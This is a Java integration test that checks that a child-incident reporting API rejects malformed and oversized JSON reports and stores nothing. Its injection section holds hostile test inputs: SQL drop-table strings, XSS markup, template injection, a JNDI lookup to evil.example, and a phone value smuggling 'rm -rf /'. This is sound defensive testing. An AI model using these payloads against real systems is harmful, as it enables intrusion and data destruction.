package kz.zhedel.intake;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.both;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.greaterThanOrEqualTo;
import static org.hamcrest.Matchers.lessThan;
import static org.hamcrest.Matchers.notNullValue;
import static org.hamcrest.Matchers.startsWith;
import static org.junit.jupiter.api.Assertions.assertEquals;

import java.time.Instant;
import java.time.Year;
import java.util.stream.Stream;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;

import kz.zhedel.testing.RealInfrastructure;

/**
 * A corpus of malformed reports: each is answered 4xx with problem+json naming the bad field where there is one,
 * and none of them stores an incident or an event.
 */
@QuarkusTest
@WithTestResource(RealInfrastructure.class)
class MalformedReportsTest {

    private static final String VALID = IncidentResourceTest.report("malformed");

    /** The valid report with {@code from} replaced by {@code to} (once). */
    private static String with(String from, String to) {
        if (!VALID.contains(from)) {
            throw new IllegalArgumentException("the valid report has no " + from);
        }
        return VALID.replaceFirst(java.util.regex.Pattern.quote(from), java.util.regex.Matcher.quoteReplacement(to));
    }

    private static Arguments bad(String name, String body, String field) {
        return Arguments.of(name, body, field);
    }

    static Stream<Arguments> corpus() {
        int thisYear = Year.now().getValue();
        return Stream.of(
                // bad JSON
                bad("empty body", "", null),
                bad("truncated object", "{\"externalRef\": ", null),
                bad("array instead of object", "[]", null),
                bad("bare string", "\"report\"", null),
                bad("json null", "null", null),
                bad("not json at all", "category=BULLYING&severity=P3", null),
                bad("trailing comma", VALID.replace("\"summary\"", "\"summary\":\"x\",}").replaceAll(",}.*", ",}"),
                        null),
                bad("single quotes", VALID.replace('"', '\''), null),
                bad("unclosed string", with("\"P3\"", "\"P3"), null),
                bad("comment inside", with("{", "{/* hi */"), null),
                bad("NaN year", with("2013", "NaN"), null),
                // wrong types
                bad("category as number", with("\"BULLYING\"", "1"), "category"),
                bad("severity as boolean", with("\"P3\"", "true"), "severity"),
                bad("district as array", with("\"BAIKONUR\"", "[\"BAIKONUR\"]"), "district"),
                bad("child as string", VALID.replaceAll("\"child\":\\{[^}]*}", "\"child\":\"Aigerim\""), "child"),
                bad("birth year as string", with("2013", "\"2013\""), "child.birthYear"),
                bad("birth year as fraction", with("2013", "2013.5"), "child.birthYear"),
                bad("externalRef as number", with("\"malformed\"", "42"), "externalRef"),
                bad("first name as number", with("\"Айгерим\"", "7"), "child.firstName"),
                bad("first name as object", with("\"Айгерим\"", "{\"kk\":\"Айгерим\"}"), "child.firstName"),
                bad("reporter as array", VALID.replaceAll("\"reporter\":\\{[^}]*}", "\"reporter\":[]"), "reporter"),
                bad("occurredAt as number", with("\"2026-01-10T08:00:00Z\"", "1767000000"), "occurredAt"),
                bad("occurredAt not a date", with("2026-01-10T08:00:00Z", "yesterday"), "occurredAt"),
                bad("occurredAt impossible date", with("2026-01-10T08:00:00Z", "2026-13-45T08:00:00Z"), "occurredAt"),
                // missing fields
                bad("empty object", "{}", "category"),
                bad("no externalRef", with("\"externalRef\":\"malformed\",", ""), "externalRef"),
                bad("no category", with("\"category\":\"BULLYING\",", ""), "category"),
                bad("no severity", with("\"severity\":\"P3\",", ""), "severity"),
                bad("no district", with("\"district\":\"BAIKONUR\",", ""), "district"),
                bad("no child", VALID.replaceAll("\"child\":\\{[^}]*},", ""), "child"),
                bad("no first name", with("\"firstName\":\"Айгерим\",", ""), "child.firstName"),
                bad("no birth year", with("\"birthYear\":2013,", ""), "child.birthYear"),
                bad("no language", with(",\"language\":\"kk\"", ""), "child.language"),
                bad("blank externalRef", with("\"malformed\"", "\"   \""), "externalRef"),
                bad("null category", with("\"BULLYING\"", "null"), "category"),
                // oversized
                bad("body over 64 KiB", with("every break", "x".repeat(70_000)), null),
                bad("summary over 4000", with("classmates push her around every break", "x".repeat(4001)),
                        "summary"),
                bad("externalRef over 100", with("\"malformed\"", "\"" + "r".repeat(101) + "\""), "externalRef"),
                bad("first name over 100", with("Айгерим", "А".repeat(101)), "child.firstName"),
                bad("reporter name over 200", with("Мария Ивановна", "М".repeat(201)), "reporter.name"),
                bad("phone over 32", with("+7 701 555 0101", "+7 701 555 0101 0101 0101 0101 01"), "reporter.phone"),
                bad("schoolId over 64", with("school-42", "s".repeat(65)), "schoolId"),
                // unknown values and fields
                bad("unknown category", with("\"BULLYING\"", "\"FIGHT\""), "category"),
                bad("lower-case category", with("\"BULLYING\"", "\"bullying\""), "category"),
                bad("severity P5", with("\"P3\"", "\"P5\""), "severity"),
                bad("unknown district", with("\"BAIKONUR\"", "\"ASTANA\""), "district"),
                bad("unknown gender", with("\"FEMALE\"", "\"OTHER\""), "child.gender"),
                bad("unknown language", with("\"kk\"", "\"en\""), "child.language"),
                bad("unknown reporter role", with("\"TEACHER\"", "\"BOSS\""), "reporter.role"),
                bad("unknown top-level field", with("{", "{\"priority\":\"high\","), "priority"),
                bad("unknown child field", with("\"firstName\"", "\"middleName\":\"Ы\",\"firstName\""),
                        "child.middleName"),
                // implausible values
                bad("occurred in the future", with("2026-01-10T08:00:00Z", Instant.now().plusSeconds(86_400)
                        .toString()), "occurredAt"),
                bad("an adult's birth year", with("2013", String.valueOf(thisYear - 30)), "child.birthYear"),
                bad("birth year in the future", with("2013", String.valueOf(thisYear + 1)), "child.birthYear"),
                bad("negative birth year", with("2013", "-2013"), "child.birthYear"),
                // injection strings
                bad("SQL in externalRef", with("\"malformed\"", "\"x'; drop table incident; --\""), "externalRef"),
                bad("SQL in district", with("\"BAIKONUR\"", "\"BAIKONUR' OR '1'='1\""), "district"),
                bad("script in schoolId", with("school-42", "<script>alert(1)</script>"), "schoolId"),
                bad("markup in first name", with("Айгерим", "<img src=x onerror=alert(1)>"), "child.firstName"),
                bad("SQL in last name", with("Сапарова", "Robert'); DROP TABLE incident;--"), "child.lastName"),
                bad("template in reporter name", with("Мария Ивановна", "{{7*7}} ${7*7}"), "reporter.name"),
                bad("JNDI lookup in externalRef", with("\"malformed\"", "\"${jndi:ldap://evil.example/a}\""),
                        "externalRef"),
                bad("shell in phone", with("+7 701 555 0101", "+7 701; rm -rf /"), "reporter.phone"),
                bad("NUL byte in summary", with("every break", "every\\u0000break"), "summary"),
                bad("escape sequence in summary", with("every break", "every\\u001b[2Jbreak"), "summary"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("corpus")
    void isRefusedAsProblemJsonAndStoresNothing(String name, String body, String field) {
        long before = Stored.rows();
        var response = given().auth().oauth2("key-b").contentType(ContentType.JSON).body(body)
                .when().post("/api/v1/incidents")
                .then().statusCode(both(greaterThanOrEqualTo(400)).and(lessThan(500)))
                .contentType(startsWith("application/problem+json"))
                .body("status", notNullValue());
        if (field != null) {
            response.body("errors.field", org.hamcrest.Matchers.hasItem(field));
        }
        assertEquals(before, Stored.rows(), name + " stored something");
    }

    @Test
    void theCorpusIsLargeAndTheValidReportPasses() {
        assertEquals(true, corpus().count() >= 50);
        given().auth().oauth2("key-b").contentType(ContentType.JSON).body(VALID.replace("malformed", "well-formed"))
                .when().post("/api/v1/incidents")
                .then().statusCode(202);
    }

    @Test
    void aPartnerOverItsRateGets429WithRetryAfter() {
        for (int i = 0; i < 3; i++) {
            given().auth().oauth2("key-c").contentType(ContentType.JSON).body(IncidentResourceTest.report("rate-" + i))
                    .when().post("/api/v1/incidents").then().statusCode(202);
        }
        given().auth().oauth2("key-c").contentType(ContentType.JSON).body(IncidentResourceTest.report("rate-3"))
                .when().post("/api/v1/incidents")
                .then().statusCode(429).contentType(startsWith("application/problem+json"))
                .body("status", equalTo(429))
                .header("Retry-After", notNullValue());
        // other partners are not slowed down
        given().auth().oauth2("key-b").contentType(ContentType.JSON).body(IncidentResourceTest.report("rate-other"))
                .when().post("/api/v1/incidents").then().statusCode(202);
    }
}
